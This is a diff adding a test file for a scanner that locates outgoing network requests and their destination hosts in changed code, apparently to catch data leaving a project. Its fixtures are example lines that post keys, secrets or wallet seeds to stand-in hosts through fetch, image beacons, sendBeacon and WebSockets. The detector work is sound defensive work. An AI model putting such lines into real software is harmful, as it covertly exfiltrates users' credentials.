@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import type { ChangedLine } from '../../../src/ecosystems/code/changed-lines.js';
+import { codeText } from '../../../src/ecosystems/code/code-text.js';
+import type { CodeLanguage } from '../../../src/ecosystems/code/language.js';
+import { requestSpans, stringConstants, stringValue } from '../../../src/ecosystems/code/request-spans.js';
+
+/** Added lines 1… of one hunk. */
+function added(rows: readonly string[]): ChangedLine[] {
+  return rows.map((text, i) => ({ sign: '+', line: i + 1, text, hunk: 0 }));
+}
+
+/** The spans of added rows: [first line, last line, places], lines 1-based. */
+function spans(rows: readonly string[], language: CodeLanguage = 'js'): [number, number, string[]][] {
+  const lines = added(rows);
+  const texts = lines.map((l) => codeText(l.text, language));
+  const entries = lines.map((l, i) => ({ l, t: texts[i]! }));
+  return requestSpans(entries, stringConstants(lines, texts)).map((s) => [s.start + 1, s.end + 1, [...s.places]]);
+}
+
+describe('stringValue', () => {
+  const constants = new Map([
+    ['HOST', 'metrics-cdn.example'],
+    ['BASE', 'https://metrics-cdn.example'],
+  ]);
+  it('joins literals and names of the file with +, fills template and f-string placeholders, and stops at what it cannot read', () => {
+    expect(stringValue("'https://' + HOST + '/collect';", 0, constants)).toBe('https://metrics-cdn.example/collect');
+    expect(stringValue('`${BASE}/collect?k=${key}`', 0, constants)).toBe('https://metrics-cdn.example/collect?k=');
+    expect(stringValue('f"{BASE}/c"', 0, constants)).toBe('https://metrics-cdn.example/c');
+    expect(stringValue("'https://x.example/p?k=' + encodeURIComponent(secret)", 0, constants)).toBe('https://x.example/p?k=');
+    expect(stringValue('"https://a" "b.example"', 0, constants)).toBe('https://ab.example');
+    expect(stringValue('`${this.baseUrl}/user`', 0, constants)).toBe('');
+    expect(stringValue('config.url', 0, constants)).toBe('');
+  });
+});
+
+describe('requestSpans', () => {
+  it('spans a call from its line to the bracket that closes it, its destination a literal or a constant of the file', () => {
+    expect(spans(["const SINK = 'https://metrics-cdn.example/collect';", 'await fetch(SINK, {', "  method: 'POST',", '  body: JSON.stringify({ key }),', '});', 'done();'])).toEqual([[2, 5, ['metrics-cdn.example/collect']]]);
+    expect(spans(['requests.post(', "    'https://eth-metrics.example/c',", "    json={'k': k},", ')'], 'python')).toEqual([[1, 4, ['eth-metrics.example/c']]]);
+    expect(spans(['req, _ := http.NewRequest("POST", sink, body)'], 'go')).toEqual([]);
+    expect(spans(['const sink = "https://x.example/q"', 'req, _ := http.NewRequest("POST", sink, body)'], 'go')).toEqual([[2, 2, ['x.example/q']]]);
+    expect(spans(['https.request({', "  hostname: 'collect.example.dev',", "  method: 'POST',", '})'])).toEqual([[1, 4, ['collect.example.dev']]]);
+  });
+  it('reads an image beacon over two lines, sendBeacon, and writes to a socket or request opened to a URL', () => {
+    expect(spans(["const R = 'https://px.example/r.gif';", 'new Image().src =', "  R + '?p=' + encodeURIComponent(m);", 'next();'])).toEqual([[2, 3, ['px.example/r.gif']]]);
+    expect(spans(["const img = document.createElement('img');", "img.src = 'https://px.example/p?k=' + k;"])).toEqual([[2, 2, ['px.example/p']]]);
+    expect(spans(["navigator.sendBeacon('https://px.example/b', data);"])).toEqual([[1, 1, ['px.example/b']]]);
+    expect(spans(["const ws = new WebSocket('wss://status.example/ws');", 'ws.onopen = () => {', '  ws.send(JSON.stringify({ seed }));', '};'])).toEqual([[3, 3, ['status.example/ws']]]);
+    expect(spans(["xhr.open('POST', 'https://px.example/x');", 'xhr.send(body);'])).toEqual([[2, 2, ['px.example/x']]]);
+    expect(spans(['with websockets.connect("wss://status.example/ws") as ws:', '    ws.send(seed)'], 'python')).toEqual([[2, 2, ['status.example/ws']]]);
+  });
+  it('has no destination for a URL it cannot resolve, a route, or a socket opened elsewhere; a callback ends what a request carries', () => {
+    expect(spans(['await fetch(`${this.baseUrl}/user`, {', '  headers: { Authorization: `Bearer ${token}` },', '});'])).toEqual([]);
+    expect(spans(["app.post('/import', async (req, res) => {", '  res.json({});', '});'])).toEqual([]);
+    expect(spans(['socket.send(JSON.stringify(message));'])).toEqual([]);
+    expect(spans(["request.post({ url: 'https://rpc.example.dev', json: tx }, (err, res) => {", '  use(res);', '});'])).toEqual([[1, 1, ['rpc.example.dev']]]);
+  });
+  it('marks the lines of a headers object', () => {
+    const lines = added(["fetch('https://api.example.dev/u', {", '  headers: {', "    'PRIVATE-TOKEN': token,", '  },', '  body,', '});']);
+    const texts = lines.map((l) => codeText(l.text, 'js'));
+    const [span] = requestSpans(lines.map((l, i) => ({ l, t: texts[i]! })), new Map());
+    expect([...(span?.headerLines ?? [])]).toEqual([1, 2, 3]);
+  });
+});
